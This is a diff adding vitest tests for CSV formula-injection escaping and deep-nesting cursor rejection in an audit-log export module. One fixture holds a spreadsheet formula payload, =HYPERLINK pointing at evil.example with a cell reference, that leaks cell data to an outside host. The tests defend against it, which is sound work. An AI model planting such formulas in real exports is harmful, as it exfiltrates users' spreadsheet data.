@@ -1,4 +1,5 @@
 import { parse } from 'csv-parse/sync';
+import fc from 'fast-check';
 import { beforeAll, describe, expect, it } from 'vitest';
 import { chainEvent, GENESIS_HASH } from '../../lambdas/core/audit-chain.js';
 import {
@@ -8,10 +9,12 @@ import {
   decodeCursor,
   DIGEST_START,
   encodeCursor,
+  escapeCsvCell,
   eventRecord,
   formatRecords,
   jsonlLine,
   nextDigest,
+  parseCsvCell,
   parseCsvRecord,
   parseJsonlRecord,
   type ExportPosition,
@@ -102,6 +105,72 @@ describe('CSV', () => {
   });
 });
 
+describe('CSV injection (issue #11)', () => {
+  const RISKY = /^[=+\-@\t\r]/u;
+  // An outsider's address as a mail's From, and other values an event may carry in its plain columns.
+  const outsider = chainEvent(undefined, {
+    requestId: 'req_x',
+    at: '2030-03-04T09:00:00.000Z',
+    type: 'mail.rejected',
+    actor: '=HYPERLINK("https://evil.example/?"&A1,"Open")@x.org',
+    data: { reason: 'not in the directory' },
+  });
+
+  it('writes a cell that a spreadsheet would run as a formula with a quote in front, and reads it back as it was', () => {
+    // Prepare
+    const text = csvText([eventRecord(outsider)], true);
+
+    // Act
+    const [row] = parse(text, { columns: true }) as Array<Record<string, string>>;
+    const back = parseCsvRecord(CSV_COLUMNS.map((c) => row?.[c] ?? ''));
+
+    // Assess
+    expect(row?.['actor']).toBe('\'=HYPERLINK("https://evil.example/?"&A1,"Open")@x.org');
+    expect(Object.values(row ?? {}).filter((cell) => RISKY.test(cell))).toEqual([]);
+    expect(back).toEqual(eventRecord(outsider));
+  });
+
+  it.each([
+    ['=1+1', "'=1+1"],
+    ['+1', "'+1"],
+    ['-1', "'-1"],
+    ['@SUM(A1)', "'@SUM(A1)"],
+    ['\tx', "'\tx"],
+    ['\rx', "'\rx"],
+    ["'quoted", "''quoted"],
+    ['ada@example.org', 'ada@example.org'],
+    ['2030-03-04T09:00:00.000Z', '2030-03-04T09:00:00.000Z'],
+    ['{"a":"=x"}', '{"a":"=x"}'],
+    ['', ''],
+  ])('escapes %j as %j', (value, cell) => {
+    expect(escapeCsvCell(value)).toBe(cell);
+    expect(parseCsvCell(cell, 'actor')).toBe(value);
+  });
+
+  it('reads back every string exactly, and never writes a cell beginning with = + - @ tab or CR', () => {
+    fc.assert(
+      fc.property(fc.string({ unit: 'binary' }), (value) => {
+        const cell = escapeCsvCell(value);
+        expect(RISKY.test(cell)).toBe(false);
+        expect(parseCsvCell(cell, 'actor')).toBe(value);
+      }),
+      { numRuns: 2_000 },
+    );
+  });
+
+  it('refuses a row with a formula cell left unescaped, or a quote that is no escape', () => {
+    // Prepare: the cell as an older export, or a hand edit, would have it
+    const bare = csvFields(eventRecord(outsider));
+    bare[4] = String(outsider.actor);
+    const needless = csvFields(eventRecord(awkward));
+    needless[4] = `'${String(awkward.actor)}`;
+
+    // Act & Assess
+    expect(() => parseCsvRecord(bare)).toThrow('the actor column begins with "=" unescaped (a spreadsheet would run it as a formula)');
+    expect(() => parseCsvRecord(needless)).toThrow('the actor column has a quote in front that is not an escape');
+  });
+});
+
 describe('JSON lines', () => {
   it('writes one record per line and reads each back unchanged', () => {
     // Prepare
@@ -187,6 +256,17 @@ describe('the cursor', () => {
 
     // Assess
     expect(back).toEqual(position);
+  });
+
+  it('refuses a deeply nested cursor before parsing it', () => {
+    // Prepare
+    const deep = Buffer.from(`{"exportId":"e","digest":"d","filter":${'['.repeat(60_000)}${']'.repeat(60_000)}}`).toString('base64url');
+
+    // Act
+    const act = () => decodeCursor(deep);
+
+    // Assess
+    expect(act).toThrow('the cursor is not one this service gave out');
   });
 
   it('refuses a cursor it did not give out', () => {
